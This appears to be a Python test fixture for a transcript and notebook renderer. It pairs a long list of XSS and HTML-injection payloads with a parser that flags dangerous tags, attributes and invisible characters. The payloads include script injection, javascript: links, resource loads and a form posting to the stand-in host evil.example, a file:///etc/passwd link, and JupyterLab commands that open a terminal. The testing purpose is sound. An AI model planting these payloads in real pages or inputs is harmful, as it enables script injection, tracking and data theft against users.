"""What hostile models and programs write: each of these has run, loaded or hidden something."""

from __future__ import annotations

import re
from html.parser import HTMLParser

from story import Story, failure, stdout

PAYLOADS = (
    "<script>alert(1)</script>",
    "<SCRIPT SRC=https://evil.example/x.js></SCRIPT>",
    "<img src=x onerror=alert(1)>",
    '<img src="https://evil.example/pixel.png">',
    '<img srcset="https://evil.example/pixel.png 1x">',
    '<IMG """><SCRIPT>alert(1)</SCRIPT>">',
    "<img src=data:image/svg+xml;base64,PHN2ZyBvbmxvYWQ9YWxlcnQoMSk+>",
    '<svg onload=alert(1)><script href="https://evil.example/x.js"/></svg>',
    "<svg><animate onbegin=alert(1) attributeName=x dur=1s>",
    '<svg><image href="https://evil.example/x.png"/><use href="https://evil.example/x.svg#a"/></svg>',
    "<svg><foreignObject><iframe src=javascript:alert(1)></foreignObject></svg>",
    '<svg></p><style><a id="</style><img src=1 onerror=alert(1)>">',
    "<math><mtext><table><mglyph><style><!--</style><img title='--><img src=1 onerror=alert(1)>'>",
    '<noscript><p title="</noscript><img src=x onerror=alert(1)>">',
    "<iframe src=https://evil.example></iframe>",
    '<iframe srcdoc="<script>alert(1)</script>"></iframe>',
    "<object data=https://evil.example></object><embed src=https://evil.example>",
    '<link rel=stylesheet href="https://evil.example/x.css">',
    "<style>@import 'https://evil.example/x.css'; body { display: none }</style>",
    '<base href="https://evil.example/">',
    '<meta http-equiv="refresh" content="0;url=https://evil.example">',
    '<form action="https://evil.example"><input name=key><button>Run</button></form>',
    '<button data-commandlinker-command="terminal:open" data-commandlinker-args="{}">x</button>',
    '<div data-commandlinker-command="kernelmenu:shutdown">x</div>',
    '<a href="javascript:alert(1)">x</a>',
    '<a href="jav&#x09;ascript:alert(1)">x</a>',
    '<a href=" &#14; javascript:alert(1)">x</a>',
    '<a href="vbscript:x">x</a><a href="data:text/html,<script>alert(1)</script>">x</a>',
    '<a href="//evil.example">x</a><a href="file:///etc/passwd">x</a>',
    '<a href="https://a.example" ping="https://evil.example" onclick=alert(1) target=_top>x</a>',
    '<div style="background: url(https://evil.example/x.png)">x</div>',
    '<div style="background-color: ur\\6c(https://evil.example/x.png)">x</div>',
    '<div style="position: fixed; top: 0; left: 0; width: 100%; height: 100%">x</div>',
    '<div style="color: red; width: expression(alert(1))">x</div>',
    '<div style="border: 1px solid; border-image: url(https://evil.example/x)">x</div>',
    '<div id=jp-main class="jp-Toolbar" name=location>x</div>',
    "<video src=https://evil.example autoplay><audio src=https://evil.example>",
    "<details open ontoggle=alert(1)>x</details>",
    "<body onload=alert(1) background=https://evil.example/x>",
    "<input autofocus onfocus=alert(1)>",
    "<template><img src=x onerror=alert(1)></template>",
    '<xmp><p title="</xmp><img src=x onerror=alert(1)>">',
    "<textarea></textarea><img src=x onerror=alert(1)>",
    "<table background=https://evil.example/x><td background=https://evil.example/x>x",
    "--><img src=x onerror=alert(1)><!--",
    "![x](https://evil.example/x.png) ![y][z]\n\n[z]: https://evil.example/y.png",
    "[x](javascript:alert(1)) [y](data:text/html,x) <javascript:alert(1)>",
    "[x]: javascript:alert(1)\n\n[x]",
    "```html\n<script>alert(1)</script>\n```\n</pre><script>alert(1)</script>",
    "\x1b]8;;javascript:alert(1)\x07x\x1b]8;;\x07 \x1b[31m<img src=x onerror=alert(1)>\x1b[0m",
    "safe \u202etxt.exe\u202c \u2066hidden\u2069 &#x202e;abc&#8238;",
    "<style></style\u2028><img src=x onerror=alert(1)>",
    "\ud800<script>alert(1)</script>\udfff",
    "$\\href{javascript:alert(1)}{x}$ $$\\html<img src=x onerror=alert(1)>$$",
    "<" * 500 + "img src=x onerror=alert(1)>",
    "<p>" + "&#x6a;avascript" * 50,
)

ALLOWED_ADDRESS = re.compile(r"(https?://|mailto:)[^\s]+")
PICTURE = re.compile(r"data:image/(png|jpeg|gif|svg\+xml);base64,[A-Za-z0-9+/=\s]*")
INVISIBLE = re.compile("[\u061c\u200e\u200f\u202a-\u202e\u2066-\u2069\ud800-\udfff]")


def words(text: str) -> set[str]:
    return set(text.split())


ACTIVE_TAGS = words(
    "script style iframe frame frameset object embed applet link base form input button "
    "select textarea video audio source track canvas svg math template noscript body html "
    "head"
)
ATTRIBUTES = words(
    "align alt border cellpadding class colspan height href open rel reversed rowspan scope span "
    "src start style title type valign value width"
)


class Harm(HTMLParser):
    """Finds what could run, load, move or hide something in a piece of HTML."""

    def __init__(self) -> None:
        super().__init__(convert_charrefs=True)
        self.found: list[str] = []

    def handle_starttag(self, tag: str, attributes: list[tuple[str, str | None]]) -> None:
        if tag in ACTIVE_TAGS:
            self.found.append(f"<{tag}>")
        for name, value in attributes:
            text = value or ""
            bad = name not in ATTRIBUTES
            bad |= name == "href" and not ALLOWED_ADDRESS.fullmatch(text)
            bad |= name == "src" and not PICTURE.fullmatch(text)
            bad |= name == "style" and bool(re.search(r"url|\\|@|expression|position", text))
            if bad or INVISIBLE.search(text):
                self.found.append(f"<{tag} {name}={text!r}>")

    handle_startendtag = handle_starttag

    def handle_data(self, data: str) -> None:
        if INVISIBLE.search(data):
            self.found.append(f"invisible characters in {data!r}")

    def handle_comment(self, data: str) -> None:
        self.found.append(f"a comment {data!r}")

    def handle_decl(self, decl: str) -> None:
        if decl != "doctype html":
            self.found.append(f"a declaration {decl!r}")


def harm(html: str) -> list[str]:
    """Return what is harmful in a piece of HTML."""
    parser = Harm()
    parser.feed(html)
    parser.close()
    return parser.found


def a_hostile_story() -> Story:
    """A run in which every text is a payload."""
    story = Story()
    everything = "\n\n".join(PAYLOADS)
    with story.run(
        question=everything,
        answer=everything,
        status="limit",
        error={"type": "X<script>", "message": everything},
        model="<script>alert(1)</script>",
    ):
        for number, payload in enumerate(PAYLOADS, 1):
            bundle = {"text/html": payload, "text/plain": payload}
            drawing = {"image/svg+xml": payload}
            with (
                story.turn(
                    payload, number=number, messages=({"role": payload, "content": payload},)
                ),
                story.cell(
                    payload,
                    stdout(payload),
                    failure(payload, payload),
                    {"output_type": "display_data", "data": bundle, "metadata": {}},
                    {"output_type": "display_data", "data": drawing, "metadata": {}},
                    {"output_type": "display_data", "data": {"text/markdown": payload}},
                    {"output_type": "display_data", "data": {payload: payload}},
                    {"output_type": "display_data", "data": {"image/png": payload}},
                    {"output_type": "execute_result", "data": {"text/html": [payload, payload]}},
                    variables={payload: {"type": payload, "preview": payload}},
                ),
                story.call(payload, payload, model=payload),
            ):
                story.note(payload)
    return story
